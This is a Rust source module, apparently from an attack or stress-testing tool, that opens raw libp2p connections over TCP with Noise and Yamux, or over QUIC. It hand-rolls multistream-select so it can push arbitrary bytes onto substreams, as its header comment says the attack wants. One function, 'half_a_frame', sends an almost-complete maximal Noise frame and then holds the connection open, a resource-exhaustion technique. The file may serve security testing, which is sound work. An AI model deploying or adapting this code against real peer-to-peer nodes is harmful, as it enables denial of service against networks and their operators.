//! A libp2p connection without a swarm: TCP, Noise and Yamux, or QUIC, and substreams on which nothing is
//! sent but what the attack wants.

use std::future::poll_fn;
use std::io;
use std::os::fd::AsFd as _;
use std::task::Poll;

use futures::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};
use libp2p::Multiaddr;
use libp2p::core::muxing::{StreamMuxerBox, StreamMuxerExt as _, SubstreamBox};
use libp2p::core::transport::{DialOpts, ListenerId, PortUse};
use libp2p::core::upgrade::OutboundConnectionUpgrade as _;
use libp2p::core::{Endpoint, Transport as _};
use libp2p::identity::Keypair;
use libp2p::tcp::tokio::TcpStream;
use libp2p::{noise, quic, yamux};
use tokio::sync::{mpsc, oneshot};

use super::source::Source;

/// A substream.
pub(super) type Stream = SubstreamBox;

/// Streams asked for at once.
const ASKED: usize = 64;

/// A connection. It is closed when this is dropped.
#[derive(Clone)]
pub(super) struct Line {
    wanted: mpsc::Sender<oneshot::Sender<Stream>>,
}

impl Line {
    /// Connects as `key`, from one of `source`'s addresses.
    ///
    /// # Errors
    /// The other side does not let it in.
    pub(super) async fn open(source: &Source, key: &Keypair) -> io::Result<Self> {
        let muxer = match source.quic() {
            Some((to, from)) => over_quic(to, from, key).await?,
            None => Self::over_tcp(source, key).await?,
        };
        let (wanted, asked) = mpsc::channel(ASKED);
        tokio::spawn(drive(muxer, asked));
        Ok(Self { wanted })
    }

    async fn over_tcp(source: &Source, key: &Keypair) -> io::Result<StreamMuxerBox> {
        let secured = secure(TcpStream(source.connect().await?), key).await?;
        let muxer = yamux::Config::default().upgrade_outbound(secured, "/yamux/1.0.0").await?;
        Ok(StreamMuxerBox::new(muxer))
    }

    /// A substream on which nothing was sent yet.
    ///
    /// # Errors
    /// The connection is gone.
    pub(super) async fn stream(&self) -> io::Result<Stream> {
        let (reply, stream) = oneshot::channel();
        let gone = || io::Error::from(io::ErrorKind::NotConnected);
        self.wanted.send(reply).await.map_err(|_| gone())?;
        stream.await.map_err(|_| gone())
    }

    /// A substream that speaks `protocol`.
    ///
    /// # Errors
    /// The connection is gone, or the other side does not speak it.
    pub(super) async fn speak(&self, protocol: &str) -> io::Result<Stream> {
        let mut stream = self.stream().await?;
        negotiate(&mut stream, protocol).await?;
        Ok(stream)
    }

    /// A substream on which `first` follows the protocol's name at once; nothing is read.
    ///
    /// # Errors
    /// The connection is gone.
    pub(super) async fn say(&self, protocol: &str, first: &[u8]) -> io::Result<Stream> {
        let mut stream = self.stream().await?;
        let mut bytes = proposal(protocol);
        bytes.extend_from_slice(first);
        stream.write_all(&bytes).await?;
        stream.flush().await?;
        Ok(stream)
    }

    /// Asks on `/peer/1.1.0`, and reads the answer.
    ///
    /// # Errors
    /// There is none.
    pub(super) async fn ask(&self, envelope: &[u8]) -> io::Result<Vec<u8>> {
        let mut stream = self.say("/peer/1.1.0", &framed(envelope)).await?;
        accepted(&mut stream).await?;
        let mut len = [0; 4];
        stream.read_exact(&mut len).await?;
        let mut answer = vec![0; (u32::from_be_bytes(len) as usize).min(2 << 20)];
        stream.read_exact(&mut answer).await?;
        Ok(answer)
    }

    /// Whether the connection is still there.
    pub(super) fn is_open(&self) -> bool {
        !self.wanted.is_closed()
    }

    /// Waits until the other side has closed it.
    pub(super) async fn closed(&self) {
        self.wanted.closed().await;
    }
}

/// Noise on a connection, and the name of Yamux in it.
async fn secure(mut socket: TcpStream, key: &Keypair) -> io::Result<noise::Output<TcpStream>> {
    negotiate(&mut socket, "/noise").await?;
    let noise = noise::Config::new(key).map_err(io::Error::other)?;
    let secured = noise.upgrade_outbound(socket, "/noise").await;
    let (_, mut secured) = secured.map_err(io::Error::other)?;
    negotiate(&mut secured, "/yamux/1.0.0").await?;
    Ok(secured)
}

/// Sends the longest frame of Noise but for its last byte, and stays until the other side has enough.
///
/// # Errors
/// The other side does not let it in.
pub(super) async fn half_a_frame(source: &Source, key: &Keypair) -> io::Result<()> {
    let socket = source.connect().await?;
    let raw = std::net::TcpStream::from(socket.as_fd().try_clone_to_owned()?);
    let mut raw = tokio::net::TcpStream::from_std(raw)?;
    let _secured = secure(TcpStream(socket), key).await?;
    tokio::io::AsyncWriteExt::write_all(&mut raw, &[0xff; 2 + 0xffff - 1]).await?;
    while tokio::io::AsyncReadExt::read(&mut raw, &mut [0; 64]).await? > 0 {}
    Ok(())
}

/// A connection over QUIC, from a socket of its own.
async fn over_quic(to: &Multiaddr, from: Multiaddr, key: &Keypair) -> io::Result<StreamMuxerBox> {
    let mut transport = quic::tokio::Transport::new(quic::Config::new(key));
    transport.listen_on(ListenerId::next(), from).map_err(io::Error::other)?;
    let options = DialOpts { role: Endpoint::Dialer, port_use: PortUse::Reuse };
    let dialing = transport.dial(to.clone(), options).map_err(io::Error::other)?;
    let (_, connection) = dialing.await.map_err(io::Error::other)?;
    Ok(StreamMuxerBox::new(connection))
}

/// An envelope as it lies on a stream.
pub(super) fn framed(envelope: &[u8]) -> Vec<u8> {
    let len = u32::try_from(envelope.len()).unwrap_or(u32::MAX);
    [&len.to_be_bytes(), envelope].concat()
}

/// Moves bytes until the connection or its owner is gone. What the other side opens is reset.
async fn drive(mut muxer: StreamMuxerBox, mut wanted: mpsc::Receiver<oneshot::Sender<Stream>>) {
    let mut asked: Option<oneshot::Sender<Stream>> = None;
    poll_fn(|cx| {
        while let Poll::Ready(stream) = muxer.poll_inbound_unpin(cx) {
            if stream.is_err() {
                return Poll::Ready(());
            }
        }
        loop {
            if asked.is_none() {
                match wanted.poll_recv(cx) {
                    Poll::Ready(Some(next)) => asked = Some(next),
                    Poll::Ready(None) => return Poll::Ready(()),
                    Poll::Pending => break,
                }
            }
            match muxer.poll_outbound_unpin(cx) {
                Poll::Ready(Ok(stream)) => {
                    // Whoever asked may have been stopped.
                    let _ = asked.take().map(|asked| asked.send(stream));
                }
                Poll::Ready(Err(_)) => return Poll::Ready(()),
                Poll::Pending => break,
            }
        }
        match muxer.poll_unpin(cx) {
            Poll::Ready(Err(_)) => Poll::Ready(()),
            Poll::Ready(Ok(_)) | Poll::Pending => Poll::Pending,
        }
    })
    .await;
}

/// What a dialer says first in multistream-select.
fn proposal(protocol: &str) -> Vec<u8> {
    let mut bytes = b"\x13/multistream/1.0.0\n".to_vec();
    bytes.push(u8::try_from(protocol.len() + 1).unwrap_or(u8::MAX));
    bytes.extend_from_slice(protocol.as_bytes());
    bytes.push(b'\n');
    bytes
}

async fn negotiate(io: &mut (impl AsyncRead + AsyncWrite + Unpin), name: &str) -> io::Result<()> {
    io.write_all(&proposal(name)).await?;
    io.flush().await?;
    accepted(io).await
}

/// Reads that the protocol is spoken.
pub(super) async fn accepted(io: &mut (impl AsyncRead + Unpin)) -> io::Result<()> {
    for _ in 0..2 {
        let mut len = [0];
        io.read_exact(&mut len).await?;
        let mut word = vec![0; usize::from(len[0])];
        io.read_exact(&mut word).await?;
        if word == b"na\n" {
            return Err(io::ErrorKind::Unsupported.into());
        }
    }
    Ok(())
}
